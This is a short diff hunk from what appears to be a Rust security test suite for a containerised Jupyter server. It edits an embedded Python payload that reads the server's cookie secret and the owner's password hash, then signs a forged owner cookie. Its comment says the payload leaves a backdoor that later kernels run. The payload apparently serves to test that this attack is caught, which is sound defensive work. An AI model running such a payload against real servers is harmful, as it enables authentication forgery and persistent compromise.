@@ -119,12 +119,11 @@ fn an_ipv6_client_slips_past_allow_through_the_userland_proxy() {
 /// and the owner's hash, sign an owner cookie as Jupyter Server would, and leave a
 /// backdoor in the container's writable layer that every later kernel runs.
 const FORGE_OWNER_COOKIE: &str = r#"
-import hashlib, hmac, json, pathlib, re
+import hashlib, hmac, json, pathlib
 from tornado.web import create_signed_value
 d = "/etc/rjup/jupyter"
 key = open(d + "/cookie_secret", "rb").read()
-config = open(d + "/jupyter_server_config.py").read()
-owner_hash = re.search(r'hashed_password = "([^"]+)"', config).group(1)
+owner_hash = json.load(open(d + "/rjup_lab.json"))["hashed_password"]
 h = hmac.new(key, digestmod=hashlib.sha256)
 h.update(b"")
 h.update(owner_hash.encode())
